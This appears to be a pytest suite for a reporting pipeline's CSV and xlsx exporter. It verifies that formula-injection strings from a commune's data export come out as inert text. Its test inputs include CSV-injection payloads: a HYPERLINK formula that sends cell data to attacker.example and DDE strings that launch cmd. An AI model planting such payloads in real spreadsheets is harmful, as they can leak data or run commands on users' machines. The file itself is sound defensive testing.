"""Cells that begin with `=`, `+`, `-`, `@` (or tab, carriage return, or their full-width forms) are
data wherever they are written back: the exporter's CSV prefixes them with `'` and quotes all text,
its xlsx types them as strings (no `<f>` in the sheet XML, `cell.data_type != 'f'` on reopening).
Numbers stay numbers. End to end: hostile field names and dossier codes from a commune's export go
through the pipeline into a real warehouse, and `baocao export` writes them back as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from baocao.cli import main
from baocao.run import pipeline
from baocao.run.config import load_config
from baocao.simulators import demo
from baocao.simulators.files import commune_csv, commune_dossiers
from baocao.storage import warehouse
from baocao.transforms.export import FORMULA_STARTS, Table, csv_text, write_csv, write_xlsx

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Hộ tịch")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
PLAIN = ("Hộ tịch", "LV-HOTICH", "a=b", "", " =1+1")
SPREADSHEET_CHARACTERS = "=+-@\t\r\uff1d ab1(),;'\"&ệ"


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, for Excel
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml"))


def _assert_no_formula(path: Path) -> int:
    """Reopen the workbook: no cell is a formula, and the sheet XML holds no <f> element. Returns the
    number of cells seen."""
    assert not re.search(r"<(\w+:)?f[\s>/]", _sheet_xml(path))
    cells = 0
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells += 1
    return cells


def test_csv_and_xlsx_write_formula_like_text_as_text_and_numbers_as_numbers(
    tmp_path: Path, figure: Callable[[str], None]
) -> None:
    rows: list[tuple[Any, ...]] = [(text, 7, Decimal("98.96"), -5, None) for text in (*HOSTILE, *PLAIN)]
    rows.append(("dates", 0, Decimal("0.50"), 1.25, datetime(2026, 11, 14, 23, 59)))
    table = Table("report", ("field_name", "received_total", "on_time_rate", "delta", "at"), rows)

    written = write_csv([table], tmp_path / "r.csv")
    header, *data = _csv_rows(tmp_path / "r.csv")
    assert header == list(table.columns) and written == len(rows)
    for (text, *_), line in zip(rows, data, strict=False):
        expected = "'" + text if text.startswith(FORMULA_STARTS) else text
        assert line[0] == expected
        assert not line[0].startswith(FORMULA_STARTS)
    assert data[0][1:4] == ["7", "98.96", "-5"]
    # Numbers are written bare; every text field is quoted (OWASP: quote and prefix).
    raw_line = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig").splitlines()[1]
    assert raw_line.endswith(',7,98.96,-5,""') and raw_line.startswith("\"'=HYPERLINK(")

    write_xlsx([table], tmp_path / "r.xlsx")
    cells = _assert_no_formula(tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["report"]
    for number, (text, *_) in enumerate(rows[: len(HOSTILE) + len(PLAIN)], start=2):
        cell = sheet.cell(row=number, column=1)
        assert (cell.value or "") == text and (cell.data_type == "s" or text == "")  # the very text, as text
        assert cell.quotePrefix == text.startswith(FORMULA_STARTS)
        assert [sheet.cell(row=number, column=c).data_type for c in (2, 3, 4)] == ["n", "n", "n"]
        assert sheet.cell(row=number, column=2).value == 7 and sheet.cell(row=number, column=4).value == -5
    assert sheet.cell(row=2, column=3).value == pytest.approx(98.96)
    figure(
        f"{len(HOSTILE)} formula-like texts written as text in CSV ('-prefixed, quoted) and xlsx "
        f"({cells} cells reopened, 0 formulas, no <f> in the sheet XML); numbers stayed numbers"
    )


@settings(max_examples=60, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(alphabet=st.sampled_from(SPREADSHEET_CHARACTERS), max_size=12), min_size=1, max_size=8))
def test_no_text_ever_becomes_a_formula(tmp_path: Path, texts: list[str]) -> None:
    table = Table("t", ("text", "number"), [(text, index) for index, text in enumerate(texts)])
    write_csv([table], tmp_path / "p.csv")
    _, *data = _csv_rows(tmp_path / "p.csv")
    assert [line[0] for line in data] == [csv_text(text) for text in texts]
    assert not any(line[0].startswith(FORMULA_STARTS) for line in data)
    write_xlsx([table], tmp_path / "p.xlsx")
    _assert_no_formula(tmp_path / "p.xlsx")
    sheet = load_workbook(tmp_path / "p.xlsx")["t"]
    # openpyxl reads an empty string cell back as None; a carriage return at the end comes back as-is.
    assert [sheet.cell(row=n, column=1).value or "" for n in range(2, len(texts) + 2)] == texts


# ---------------------------------------------------------------- end to end through the CLI

COMMUNE = "000.01.02.H99"
HOSTILE_CODE = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def _world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, list[dict[str, Any]]]:
    """A TTHC_RESULTS configuration fed by one commune's export whose field names and one dossier
    code are formula injections; one more row has a date the reader refuses."""
    for name in (demo.CENTRAL_TOKEN_ENV, demo.CLIENT_ID_ENV, demo.CLIENT_SECRET_ENV):
        monkeypatch.setenv(name, "x")
    config_path = tmp_path / "baocao.toml"
    demo.write_config(config_path, onestop_url="http://127.0.0.1:9", central_url="http://127.0.0.1:9/api/v1")
    text = config_path.read_text(encoding="utf-8").replace('sources = ["onestop"]', 'sources = ["communes"]')
    config_path.write_text(
        text + '\n[[sources]]\nname = "communes"\nkind = "commune_csv"\npath = "drop/communes"\n', encoding="utf-8"
    )
    (tmp_path / "agencies.csv").write_text(
        f'code,name,level,valid_from,valid_to\n{COMMUNE},"Xã Tà Nung",COMMUNE,,\n', encoding="utf-8"
    )
    rows = commune_dossiers(40, seed=4, agency_code=COMMUNE, start=datetime(2026, 10, 15, 7, 30))
    names = dict(zip(sorted({row["ma_linhvuc"] for row in rows}), HOSTILE[:4], strict=False))
    for row in rows:
        row["ten_linhvuc"] = names.get(row["ma_linhvuc"], row["ten_linhvuc"])
    # Finished before it was received: the dossier suite quarantines it under its (hostile) code.
    rows[1] |= {"ma_hoso": HOSTILE_CODE, "trang_thai": 4, "ngay_tra": rows[1]["ngay_nhan"] - timedelta(days=2)}
    rows[2] |= {"ma_hoso": "@SUM(9)", "ngay_nhan": rows[2]["ngay_nhan"].strftime("%d/%m/%Y")}  # no time of day
    drop = tmp_path / "drop" / "communes"
    drop.mkdir(parents=True)
    (drop / "xa-ta-nung.csv").write_bytes(commune_csv(rows, "utf-8-sig"))
    return config_path, rows


def test_baocao_export_writes_reports_and_quarantine_lists_as_text_from_a_real_warehouse(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, figure: Callable[[str], None]
) -> None:
    config_path, rows = _world(tmp_path, monkeypatch)
    config = load_config(config_path)
    batch = pipeline.validate_batch(config, pipeline.extract(config, "communes"))
    pipeline.aggregate(config, "TTHC_RESULTS", "2026-11")
    engine = pipeline.engine_for(config)
    held = warehouse.quarantined_records(engine, batch.batch_id)
    assert {record["record_key"] for record in held if record["stage"] == "validate"} == {HOSTILE_CODE}
    runner = CliRunner()
    personal = [str(row[column]) for row in rows for column in ("ho_ten", "so_cccd", "dien_thoai")]
    texts_seen = 0
    for file_format in ("csv", "xlsx"):
        report = tmp_path / "out" / f"tthc.{file_format}"
        result = runner.invoke(
            main,
            ["export", "--report", "TTHC_RESULTS", "--period", "2026-11", "--format", file_format]
            + ["--out", str(report), "--config", str(config_path)],
        )
        assert result.exit_code == 0, result.output
        assert f"wrote {report}" in result.output.replace("\n", "")
        quarantine = tmp_path / "var" / "exports" / f"quarantine-{batch.batch_id}.{file_format}"
        result = runner.invoke(
            main, ["export", "--quarantine", batch.batch_id, "--format", file_format, "--config", str(config_path)]
        )
        assert result.exit_code == 0, result.output
        assert quarantine.is_file()
        if file_format == "csv":
            header, *lines = _csv_rows(report)
            names = [line[header.index("field_name")] for line in lines if line[0] == "ROW"]
            assert {name.removeprefix("'") for name in names} & set(HOSTILE)
            assert all(not name.startswith(FORMULA_STARTS) for name in names)
            received = [line[header.index("received_total")] for line in lines]
            assert all(value.isdigit() for value in received)  # counts written as bare numbers
            q_header, *q_lines = _csv_rows(quarantine)
            keys = [line[q_header.index("record_key")] for line in q_lines]
            assert "'" + HOSTILE_CODE in keys and all(not key.startswith(FORMULA_STARTS) for key in keys)
            texts_seen += len(names) + len(keys)
            written = report.read_text(encoding="utf-8-sig") + quarantine.read_text(encoding="utf-8-sig")
        else:
            texts_seen += _assert_no_formula(report) + _assert_no_formula(quarantine)
            sheet = load_workbook(report)["report"]
            header = [cell.value for cell in sheet[1]]
            lines = range(2, sheet.max_row + 1)
            values = {sheet.cell(row=n, column=header.index("field_name") + 1).value for n in lines}
            assert values & set(HOSTILE)
            counts = [sheet.cell(row=n, column=header.index("received_total") + 1) for n in lines]
            assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in counts)
            q_sheet = load_workbook(quarantine)["quarantine"]
            assert HOSTILE_CODE in {cell.value for cell in q_sheet["D"]}
            written = _sheet_xml(report) + _sheet_xml(quarantine)
        # The quarantine holds record keys, rules and reasons, never the applicants' data.
        assert not [value for value in personal if value in written]
    figure(
        f"baocao export: TTHC_RESULTS 2026-11 and batch quarantine ({len(held)} entries) as CSV and xlsx from a "
        f"pipeline-filled warehouse: {texts_seen} cells checked, 0 formulas, 0 personal values"
    )


def test_baocao_export_usage_and_unknown_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config_path, _ = _world(tmp_path, monkeypatch)
    runner = CliRunner()
    arguments = ["export", "--report", "TTHC_RESULTS", "--period", "2026-11", "--quarantine", "b"]
    both = runner.invoke(main, [*arguments, "--config", str(config_path)])
    assert both.exit_code == 2 and "give either --report R --period P, or --quarantine BATCH_ID" in both.output
    missing = runner.invoke(main, ["export", "--quarantine", "no-such-batch", "--config", str(config_path)])
    assert missing.exit_code == 1 and "no batch 'no-such-batch' in the warehouse" in missing.output
